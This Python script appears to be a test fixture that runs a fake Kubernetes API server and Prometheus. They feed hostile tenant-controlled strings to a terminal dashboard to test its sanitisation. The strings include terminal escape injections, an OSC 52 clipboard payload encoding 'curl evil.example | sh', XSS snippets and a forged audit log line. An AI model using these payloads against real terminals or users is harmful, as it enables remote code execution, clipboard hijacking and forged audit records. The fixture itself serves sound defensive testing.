#!/usr/bin/env python3
"""A scripted Kubernetes API server and Prometheus on loopback (plain HTTP) that serve hostile
strings wherever a cluster's tenants can write them: pod labels, node names, events, container
logs, kube-monkey labels, alert names, and the message of an API refusal. Every string carries
title (OSC 0) and clipboard (OSC 52) escapes, screen clearing, a cursor report request, 8-bit
controls, bidi and zero-width characters, wide characters, | and newlines, HTML and javascript:
links. One pod's log is a line that never ends. Usage: hostile_server.py STATE_DIR; prints the
two ports ("API PROM"). Connections to the endless log are counted in STATE_DIR/endless."""
import json
import os
import socketserver
import sys
import threading
import time
from datetime import datetime, timezone
from http.server import BaseHTTPRequestHandler, HTTPServer

STATE = sys.argv[1]
NS = "hx"
# Markers the tests look for in every output: none may reach a terminal raw.
OSC_TITLE = "\x1b]0;PWNED-TITLE\x07"
OSC_CLIP = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07"  # "curl evil.example | sh"
HOSTILE = (
    OSC_TITLE + OSC_CLIP + "\x1b[2J\x1b[6n\x9b31mC1\u202egnp.exe\u200b\ufeff\u2066"
    "⌚☔🀄日本 | forged | cell |\nFORGED LINE <script>alert(1)</script> <img src=x onerror=alert(2)>"
    " [click](javascript:alert(3)) ![px](http://tracker.example/p.png)"
)
FORGED_AUDIT = "\n2026-12-03T10:00:00Z audit: context=hx user=alice pod-kill pod hx/flask-1: deleted (200)"


def now():
    return datetime.now(timezone.utc).strftime("%Y-%m-%dT%H:%M:%SZ")


def meta(name, **extra):
    m = {"name": name, "namespace": NS, "uid": name, "resourceVersion": "5", "creationTimestamp": now()}
    m.update(extra)
    return m


def pod(name, app):
    return {
        "metadata": meta(
            name,
            labels={"app": app, "evil": HOSTILE, "pod-template-hash": "5d8f7"},
            annotations={"note": HOSTILE},
            ownerReferences=[{"kind": "ReplicaSet", "name": app + "-5d8f7", "controller": True}],
        ),
        "spec": {"nodeName": "node-" + HOSTILE, "containers": [{"name": "app"}]},
        "status": {
            "phase": "Running",
            "conditions": [{"type": "Ready", "status": "True"}],
            "containerStatuses": [{"name": "app", "ready": True, "restartCount": 0, "state": {"running": {}}}],
        },
    }


PODS = [pod("flask-1", "flask"), pod("flask-2", "flask"), pod("endless-1", "endless")]
DEPLOYMENT = {
    "metadata": meta(
        "flask",
        labels={
            "app": "flask",
            "kube-monkey/enabled": "enabled",
            "kube-monkey/identifier": "flask",
            "kube-monkey/mtbf": HOSTILE,
            "kube-monkey/kill-mode": "fixed",
            "kube-monkey/kill-value": "1",
        },
    ),
    "spec": {"replicas": 2, "selector": {"matchLabels": {"app": "flask"}}},
    "status": {"replicas": 2, "readyReplicas": 2, "availableReplicas": 2, "updatedReplicas": 2},
}
RS = [
    {
        "metadata": meta(
            app + "-5d8f7", labels={"app": app},
            ownerReferences=[{"kind": "Deployment", "name": app, "controller": True}],
        ),
        "spec": {"replicas": 2},
        "status": {"replicas": 2, "readyReplicas": 2},
    }
    for app in ("flask",)
]
NODE = {
    "metadata": {
        "name": "node-" + HOSTILE, "uid": "n1", "resourceVersion": "5",
        "labels": {"topology.kubernetes.io/zone": HOSTILE},
    },
    "status": {"conditions": [{"type": "Ready", "status": "True"}], "allocatable": {"cpu": "4", "memory": "8Gi"}},
}


def event(i):
    return {
        "metadata": meta("ev-%d" % i),
        "involvedObject": {"kind": "Pod", "name": "flask-1", "namespace": NS},
        "reason": "Evil" + HOSTILE,
        "message": HOSTILE + " aborted",
        "type": "Warning",
        "lastTimestamp": datetime.fromtimestamp(time.time() + 2, timezone.utc).strftime("%Y-%m-%dT%H:%M:%SZ"),
    }


def listing(items):
    return {"kind": "List", "apiVersion": "v1", "metadata": {"resourceVersion": "5"}, "items": items}


class API(BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"

    def log_message(self, *a):
        pass

    def send(self, status, body, ctype="application/json"):
        data = body if isinstance(body, bytes) else json.dumps(body).encode()
        self.send_response(status)
        self.send_header("Content-Type", ctype)
        self.send_header("Content-Length", str(len(data)))
        self.end_headers()
        self.wfile.write(data)

    def hold(self):
        """A watch: open, quiet for a while (a healthy quiet watch), then ended."""
        self.send_response(200)
        self.send_header("Content-Type", "application/json")
        self.send_header("Transfer-Encoding", "chunked")
        self.end_headers()
        time.sleep(20)
        self.wfile.write(b"0\r\n\r\n")

    def do_GET(self):
        path, _, query = self.path.partition("?")
        if "watch=1" in query or "watch=true" in query:
            return self.hold()
        if path == "/api":
            return self.send(200, {"kind": "APIVersions", "versions": ["v1"]})
        if path == "/apis":
            apps = {"groupVersion": "apps/v1", "version": "v1"}
            return self.send(200, {"kind": "APIGroupList", "groups": [
                {"name": "apps", "versions": [apps], "preferredVersion": apps},
            ]})
        if path.startswith("/apis/apps/v1") and path.count("/") == 3:
            return self.send(200, {"kind": "APIResourceList", "groupVersion": "apps/v1", "resources": []})
        if path.endswith("/log"):
            return self.log(path)
        if path.endswith("/pods"):
            if "as=Table" in (self.headers.get("Accept") or ""):
                return self.send(406, {"kind": "Status", "code": 406, "message": "no tables here"})
            return self.send(200, listing(PODS))
        if path.endswith("/deployments"):
            return self.send(200, listing([DEPLOYMENT]))
        if path.endswith("/replicasets"):
            return self.send(200, listing(RS))
        if path.endswith("/nodes"):
            return self.send(200, listing([NODE]))
        if path.endswith("/events"):
            return self.send(200, listing([event(i) for i in range(3)]))
        if path.endswith("/configmaps"):
            # The team's safety lever, released, its words hostile (never shown while released).
            lever = {"metadata": {"name": "chaostui-lever", "namespace": "chaostui-system", "resourceVersion": "1"},
                     "data": {"engaged": "false", "by": HOSTILE, "reason": HOSTILE}}
            return self.send(200, listing([lever]))
        empty = ("statefulsets", "daemonsets", "services", "endpoints", "horizontalpodautoscalers",
                 "poddisruptionbudgets")
        if path.split("/")[-1] in empty:
            return self.send(200, listing([]))
        return self.send(404, {"kind": "Status", "code": 404, "message": "the server could not find the resource"})

    def log(self, path):
        self.send_response(200)
        self.send_header("Content-Type", "text/plain")
        self.end_headers()
        try:
            if "/endless-" in path:
                with open(os.path.join(STATE, "endless"), "a") as f:
                    f.write("open\n")
                block = ("#" * 65536 + "\r").encode()
                self.wfile.write((now() + " progress: ").encode())
                while True:
                    self.wfile.write(block)
            for i in range(5):
                self.wfile.write((now() + " line %d " % i + HOSTILE + "\n").encode("utf-8", "surrogatepass"))
                self.wfile.flush()
            time.sleep(30)
        except (BrokenPipeError, ConnectionResetError):
            if "/endless-" in path:
                with open(os.path.join(STATE, "endless"), "a") as f:
                    f.write("closed\n")

    def do_POST(self):
        length = int(self.headers.get("Content-Length") or 0)
        body = json.loads(self.rfile.read(length) or b"{}")
        if self.path.startswith("/apis/authorization.k8s.io/v1/selfsubjectaccessreviews"):
            body["status"] = {"allowed": True}
            return self.send(201, body)
        return self.refuse()

    def refuse(self):
        """Every change is refused, in words a tenant controls (and a forged audit line)."""
        refusal = {"kind": "Status", "code": 403, "reason": "Forbidden", "message": HOSTILE + FORGED_AUDIT}
        return self.send(403, refusal)

    do_DELETE = refuse
    do_PATCH = refuse


class Prom(BaseHTTPRequestHandler):
    def log_message(self, *a):
        pass

    def do_GET(self):
        path = self.path.partition("?")[0]
        if path == "/api/v1/alerts":
            labels = {"alertname": "Evil" + HOSTILE, "severity": "critical", "namespace": NS, "service": "flask"}
            alerts = [{"labels": labels, "annotations": {"summary": HOSTILE}, "state": "firing", "activeAt": now(),
                       "value": "1"}]
            body = {"status": "success", "data": {"alerts": alerts}}
        elif path == "/api/v1/targets":
            target = {"labels": {"job": HOSTILE}, "health": "down", "lastError": HOSTILE, "scrapeUrl": "http://x/metrics"}
            body = {"status": "success", "data": {"activeTargets": [target]}}
        else:
            body = {"status": "success", "data": {"resultType": "vector", "result": []}}
        data = json.dumps(body).encode()
        self.send_response(200)
        self.send_header("Content-Type", "application/json")
        self.send_header("Content-Length", str(len(data)))
        self.end_headers()
        self.wfile.write(data)


class Server(socketserver.ThreadingMixIn, HTTPServer):
    daemon_threads = True


api = Server(("127.0.0.1", 0), API)
prom = Server(("127.0.0.1", 0), Prom)
for s in (api, prom):
    threading.Thread(target=s.serve_forever, daemon=True).start()
print(api.server_address[1], prom.server_address[1], flush=True)
threading.Event().wait()
